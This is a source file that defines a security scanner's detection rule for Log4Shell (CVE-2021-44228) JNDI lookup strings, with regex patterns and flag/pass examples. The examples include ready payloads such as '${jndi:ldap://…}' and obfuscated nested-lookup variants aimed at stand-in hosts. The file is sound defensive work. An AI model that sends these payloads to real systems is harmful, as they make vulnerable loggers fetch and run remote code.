import { isMention, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_115",
  title: "A logging lookup that loads code",
  why: "A vulnerable logger that writes this text fetches a class from the address in it and runs it.",
  fix: "Update the logger; refuse the value.",
  severity: "critical",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI05"],
    mcp: ["MCP05"],
    cwe: ["CWE-917", "CWE-502"],
    see: ["https://nvd.nist.gov/vuln/detail/CVE-2021-44228"],
  },
  keywords: ["jndi", "${lower:", "${upper:", "${env:", "${::-", "${${", "%24%7bjndi"],
  match: [
    scan(
      /\$\{\s{0,3}jndi\s{0,3}:\s{0,3}(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?|\$\{)/i,
      (match, { text, kind }) =>
        kind !== "document" || !isMention(text, { start: match.index, end: match.index + match[0].length }),
    ),
    /\$\{[jndi]{0,4}\$\{[^{}\n]{0,24}\}(?:\$\{[^{}\n]{0,24}\}|[jndi]){1,12}[^\n]{0,40}:?(?:\$\{[^{}\n]{0,24}\}|[ldaprmin]){1,12}:?\/{0,2}/i,
    /%24%7[bB](?:jndi|%24%7[bB])[^\s]{0,80}(?:ldap|rmi|dns)/i,
  ],
  examples: {
    flags: [
      { text: "${jndi:ldap://203.0.113.66:1389/a}", kind: "header" },
      { text: "${${lower:j}ndi:${lower:l}${lower:d}ap://x.example.net/a}", kind: "tool_argument" },
      { text: "https://api.example/?q=%24%7Bjndi:ldap://x.example.net/z%7D", kind: "url" },
      "User-Agent was ${jndi:dns://probe.example.net}",
    ],
    passes: [{ text: 'expression: headers contains "${jndi:"', kind: "config" }, {
      text: 'String path = "${java.home}/lib";',
      kind: "document",
    }, {
      text: "Mozilla/5.0 (X11; Linux x86_64)",
      kind: "header",
    }, "The JNDI lookup of the data source failed, so we restarted the pool."],
  },
});
